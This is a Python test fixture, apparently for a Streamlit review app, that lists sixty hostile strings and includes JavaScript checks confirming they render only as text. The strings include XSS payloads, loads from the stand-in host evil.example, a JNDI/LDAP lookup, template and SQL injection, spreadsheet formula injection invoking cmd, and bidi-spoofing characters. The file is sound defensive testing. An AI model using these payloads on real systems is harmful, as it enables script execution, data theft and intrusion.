"""Sixty texts that are not to become anything but text, and what would show that one of them did."""

from __future__ import annotations

_RUNS = "window.hurt=1"
_AWAY = "http://evil.example"

TEXTS: tuple[str, ...] = (
    # script and markup
    f"<script>{_RUNS}</script>",
    f"<ScRiPt src={_AWAY}/a.js></sCrIpT>",
    f"<img src=x onerror='{_RUNS}'>",
    f'"><img src="{_AWAY}/a.png">',
    f"<svg/onload={_RUNS}>",
    f"<svg><script>{_RUNS}</script></svg>",
    f"'\"><iframe src={_AWAY}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUNS}</script>'>",
    f"<body onload={_RUNS}>",
    f"<details open ontoggle={_RUNS}>x</details>",
    f"<input autofocus onfocus={_RUNS}>",
    f"<video src={_AWAY}/v.mp4 autoplay onerror={_RUNS}>",
    f"<object data={_AWAY}/o.swf></object>",
    f"<embed src={_AWAY}/e>",
    f"<link rel=stylesheet href={_AWAY}/s.css>",
    f"<style>@import url({_AWAY}/s.css); .stage{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<form action={_AWAY}><button>Approve</button></form>",
    f'<a href="javascript:{_RUNS}">click</a>',
    f"<math><mtext><img src=x onerror={_RUNS}></mtext></math>",
    f"<template><script>{_RUNS}</script></template>",
    "</textarea></script></style></title><b>bold</b>",
    "<!-- <b>comment --> <b>after</b>",
    "&lt;b&gt; &#60;script&#62; &amp;copy; &copy;",
    f'<div style="background:url({_AWAY}/b.png)">x</div>',
    f"javascript:{_RUNS}",
    f"data:text/html,<script>{_RUNS}</script>",
    # Markdown
    f"![x]({_AWAY}/a.png)",
    f"[x](javascript:{_RUNS})",
    f"[x]({_AWAY})",
    f"![x][1] [1]: {_AWAY}/ref.png",
    f"<{_AWAY}/auto>",
    f"{_AWAY}/bare and www.evil.example and eve@evil.example",
    "`a` **b** _c_ ~~d~~",
    "# heading",
    "- list\n- of\n- three",
    "> quote\n\n```\ncode\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    # LaTeX, Streamlit's own words, emoji
    "$x^2$ and $$\\href{javascript:window.hurt=1}{y}$$",
    "\\(x\\) \\[y\\] \\unicode{x}",
    ":red[no] :blue-background[no] :rainbow[no]",
    ":material/skull: :ghost: :streamlit:",
    ":small[no] :orange-badge[no]",
    # templates
    "{{7*7}} {%7*7%} {#7#}",
    "${7*7} $HOME ${jndi:ldap://evil.example/a}",
    "{0.__class__} {person.name!r:>10} %(name)s %s %n",
    "#{7*7} <%= 7*7 %> @(7*7)",
    # what hides, turns round or never ends
    "abc\u202egnp.exe\u202c",
    "zero\u200bwidth\u200djoined\ufeff",
    "\u2066isolate\u2069 \u061c \u200f",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f a\u0334\u0335l\u0336g\u0337o",
    "a" * 600,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \u0000".replace("\u0000", "\u2400"),
    # databases and spreadsheets
    "100% _ \\% '; DROP TABLE images; --",
    f'=HYPERLINK("{_AWAY}","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
)

GONE_WRONG = """() => {
    const found = [];
    const bad = 'iframe, object, embed, base, video, audio, math, meta[http-equiv=refresh], '
        + 'form[action*=evil], '
        + "a[href*=evil], a[href^='mailto'], a[href^='javascript'], img[src*=evil], img[src='x'], link[href*=evil], "
        + '[onerror], [onload], '
        + '[onfocus], [ontoggle], .katex, .stMarkdownColoredText, .stMarkdownBadge, [style*=evil]';
    const look = (root) => {
        for (const node of root.querySelectorAll(bad)) found.push(node.outerHTML.slice(0, 200));
        for (const node of root.querySelectorAll('script, style, template'))
            if (/hurt|evil/.test(node.textContent + (node.innerHTML || ''))) found.push(node.outerHTML.slice(0, 200));
        for (const node of root.querySelectorAll('[data-testid=stIconMaterial]'))
            if (node.textContent.includes('skull')) found.push('an icon from a text');
        for (const node of root.querySelectorAll('*')) if (node.shadowRoot) look(node.shadowRoot);
    };
    look(document);
    if (window.hurt !== undefined) found.push('it ran');
    if (document.body.innerText.includes('\\u{1F47B}')) found.push('an emoji from a text');
    return found;
}"""
"""In the page: elements that came from a text, and whether one ran. Nothing, if all is well."""

WORDS = """() => {
    const parts = [];
    const look = (root) => {
        const walk = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
        while (walk.nextNode()) parts.push(walk.currentNode.nodeValue);
        for (const node of root.querySelectorAll('textarea, input')) parts.push(node.value);
        for (const node of root.querySelectorAll('*')) if (node.shadowRoot) look(node.shadowRoot);
    };
    look(document.body);
    return parts.join('\\u0001').replaceAll('\\u2060', '');
}"""
"""In the page: all its text, shadow trees and fields included, without the joiners of review_app.appearance.plain."""


def flat(text: str) -> str:
    """As labels show it: white space is one space."""
    return " ".join(text.split())
